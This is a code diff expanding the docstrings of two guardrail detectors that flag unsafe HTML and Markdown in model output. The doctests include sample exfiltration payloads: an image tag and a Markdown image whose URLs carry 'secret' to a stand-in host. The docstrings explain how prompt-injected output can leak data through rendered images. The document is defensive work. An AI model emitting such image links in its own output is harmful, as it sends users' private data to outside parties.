@@ -98,12 +98,21 @@ def unsafe_html(
 ) -> Iterator[Finding]:
     """HTML that runs, sends, or pretends to be part of the page.
 
-    What a model writes may be what a stranger told it to write. `redact` leaves the tags
-    that show text, tables and lists. It needs nh3: ``pip install "guardrails-lib[output]"``.
+    What a model writes may be what a stranger told it to write. `redact` leaves tags that
+    show text, tables and lists, links to pages and mail, and no image but those of *images*.
+    It needs nh3: ``pip install "guardrails-lib[output]"``.
 
     >>> for found in unsafe_html()('Hi, <img src="https://x.test/?q=secret"> Ann'):
     ...     print(found.kind, found.span, found.instead)
     image Span(start=4, end=40) <img>
+
+    *tags* and *attributes* name what is allowed instead of what is as a rule. *links* and
+    *images* are patterns as `unlisted_source` takes them; without *links* every page of the
+    web may be linked. Where nothing is found the text stays as it is, letter for letter.
+
+    It is for text that a page shows between two tags. Within an attribute, a script or a
+    style nothing that a model wrote is safe. Tags nested deeper than browsers go are shown
+    as they were written.
     """
     from ..rendering import html  # noqa: PLC0415  # it needs an extra
 
@@ -137,9 +146,21 @@ def unsafe_markdown(
 ) -> Iterator[Finding]:
     """Markdown that asks for something when it is shown, or links to what runs.
 
+    An image is asked for as soon as it is shown, so its address can carry away what the
+    model knows. It needs nh3 and markdown-it-py: ``pip install "guardrails-lib[output]"``.
+
     >>> for found in unsafe_markdown()("Done! ![ok](https://x.test/?q=secret)"):
     ...     print(found.kind, found.span, found.instead)
     image Span(start=6, end=37) ok
+
+    `redact` leaves the words of an image or a link, and shows a tag as it is written. Code
+    stays as it is. *links* and *images* are patterns as `unlisted_source` takes them; without
+    *links* every page of the web may be linked, unless the address takes much along. Tags
+    without attributes that only set how text looks are fine, and with ``html=True`` what
+    `unsafe_html` allows.
+
+    It reads CommonMark with tables, and what other readers might take for a link. It does not
+    know the extensions of your renderer: attributes in braces, diagrams, mathematics.
     """
     from ..rendering import markdown_edits  # noqa: PLC0415  # it needs an extra
     from ..rendering.html import rules  # noqa: PLC0415  # as above
